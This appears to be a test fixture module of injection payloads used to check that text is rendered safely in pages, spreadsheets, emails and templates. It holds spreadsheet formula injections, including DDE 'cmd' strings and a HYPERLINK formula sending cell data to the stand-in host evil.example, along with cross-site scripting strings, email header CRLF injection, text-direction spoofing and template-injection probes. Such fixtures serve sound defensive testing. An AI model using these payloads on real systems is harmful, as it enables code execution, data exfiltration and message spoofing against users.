// What is typed into texts so that it does something where it is read: in a page, a letter, a spreadsheet or a template.

/** Where everything leads that would become a link or a request: nothing may ever go there. */
export const ELSEWHERE = 'evil.example';
/** What a template would make of what some of them hold. */
export const COMPUTED = String(1234 * 5679);

/** Each by what it is. `window.__active` is what a page of the test would see of a script that ran. */
export const payloads = {
  'a formula with a link': `=HYPERLINK("https://${ELSEWHERE}/?x="&A1,"Open")`,
  'a formula with plus': "+cmd|'/C calc'!A0",
  'a formula with minus': "-2+3+cmd|'/C calc'!A0",
  'a formula with at': "@SUM(1+1)*cmd|'/C calc'!A0",
  'a formula behind a tab': '\t=1+1',
  'a formula behind a line end': '\r=1+1',
  'a script and a picture': '"><script>window.__active=1</script><img src=x onerror=window.__active=1>',
  'an attribute': "' onfocus=window.__active=1 autofocus x=\"",
  'the end of a script': '</script></textarea></title><svg onload=window.__active=1><iframe srcdoc="<script>parent.__active=1</script>"></iframe>',
  'an address that is a script': 'javascript:window.__active=1//',
  'a link in Markdown': `[Open](https://${ELSEWHERE}/) ![x](https://${ELSEWHERE}/x.png) <https://${ELSEWHERE}/>`,
  'a script in Markdown': '[Open](javascript:window.__active=1)',
  'headers of a letter': `x\r\nBcc: victim@${ELSEWHERE}\r\nX-Injected: yes\r\nATTENDEE:mailto:victim@${ELSEWHERE}\r\n\r\n<b>x</b>`,
  'marks that turn text round': '\u202eexe.fdp\u202c \u2066x\u2069 \u200fx',
  'a template': '{{1234*5679}} ${1234*5679} <%= 1234*5679 %> #{1234*5679} {% raise %}',
  'a placeholder': '((name)) ((link)) ((__proto__))',
  'a letter of Notify': `# Heading\n^ Inset\n* www.${ELSEWHERE}\nhttps://${ELSEWHERE}/pay`,
};

export const kinds = Object.keys(payloads);
